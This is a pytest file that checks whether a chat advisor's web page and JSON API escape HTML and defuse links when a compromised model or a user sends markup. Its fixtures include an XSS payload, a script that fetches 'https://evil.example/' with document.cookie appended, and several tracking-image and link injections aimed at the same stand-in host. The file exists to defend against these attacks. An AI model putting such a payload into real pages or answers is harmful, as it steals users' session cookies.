"""The chat page cannot be made to inject: answers are rendered with HTML escaped and links defused.

The grounding check keeps markup out of answers (tests/abuse/test_llm_markup.py); these tests are the second
line of defence: whatever text reaches a chat bubble (a bad answer, the person's own message) shows as text. The
`/ask` JSON API is checked end to end with a model that appends a `<script>` to a supported sentence.
"""

from __future__ import annotations

from collections.abc import Iterator
from typing import Any, cast

import pytest

pytest.importorskip("gradio", reason="the web UI needs the 'ui' extra (gradio)")

from advisor import Advisor, Settings
from advisor.api import StreamEvent
from advisor.types import Answer
from tests.backends.scripted import ScriptedOpenAI
from ui.app import ChatHandlers, IndexBuilder
from ui.render import chat_markdown

BAD = ('AI Agents appear in 47.3% of postings <img src="https://evil.example/p.gif"> '
       "[more](https://evil.example/x) ![i](https://evil.example/i.png) <https://evil.example/a> [1]\n"
       "[1]: https://evil.example/ref")


def _no_live_markup(shown: str) -> None:
    assert "<" not in shown and ">" not in shown, shown
    assert "](" not in shown and "]:" not in shown, shown


def test_chat_markdown_shows_html_as_text_and_defuses_links():
    shown = chat_markdown(BAD)
    _no_live_markup(shown)
    assert "&lt;img" in shown and "47.3%" in shown and "[1]" in shown
    assert chat_markdown(shown) == shown  # Gradio hands the history back; it is rendered again


def test_plain_answers_are_unchanged():
    text = "AI Agents appear in 47.3% of postings (1,967 of 4,155). [1] R&D roles pay $140K. [2]"
    assert chat_markdown(text) == text


class _Fake:
    """Just enough of `Advisor` for the handlers: a ready index and a canned stream."""

    def __init__(self, text: str) -> None:
        self.settings = Settings(max_question_chars=200)
        self.index = type("Index", (), {"is_ready": staticmethod(lambda: True)})()
        self.text = text

    def stream(self, question: Any, thread_id: str | None = None) -> Iterator[StreamEvent]:
        yield StreamEvent(delta=self.text)
        yield StreamEvent(answer=Answer(text=self.text))


def test_every_chat_bubble_is_escaped_while_streaming_and_at_the_end():
    fake = cast(Advisor, _Fake(BAD))
    outs = list(ChatHandlers(fake, IndexBuilder(fake)).respond("<b>hi</b> what do they earn?", [], ""))
    for out in outs:
        if isinstance(out[0], list):
            for msg in out[0]:
                _no_live_markup(msg["content"])


@pytest.fixture()
def model() -> Iterator[ScriptedOpenAI]:
    server = ScriptedOpenAI()
    server.reply = ("AI Agents appear in 47.3% of all postings <script>fetch('https://evil.example/'+document.cookie)"
                    "</script> [1].")
    yield server
    server.close()


def test_ask_api_returns_no_script_from_a_compromised_model(advisor: Advisor, model: ScriptedOpenAI):
    adv = Advisor(advisor.settings.model_copy(update={
        "llm_base_url": model.base_url, "llm_timeout": 10.0, "llm_max_retries": 0, "llm_tool_calling": False,
        "checkpointer": "memory"}))
    data = ChatHandlers(adv, IndexBuilder(adv)).ask_api("What percent of AI engineer postings ask for AI agents?")
    assert data["backend"] == "openai" and "47.3%" in data["answer"], data
    assert "<script" not in data["answer"] and "evil" not in data["answer"], data["answer"]
